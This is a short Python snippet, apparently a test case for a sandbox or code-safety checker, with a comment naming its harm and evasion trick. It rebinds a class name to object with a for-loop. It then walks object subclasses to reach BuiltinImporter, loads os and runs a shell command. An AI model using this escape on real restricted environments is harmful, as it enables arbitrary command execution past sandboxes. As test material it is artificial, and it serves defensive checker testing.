# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: own class name rebound by a for-loop target over [object]
class Base:
    pass


for Base in [object]:
    pass

for c in Base.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
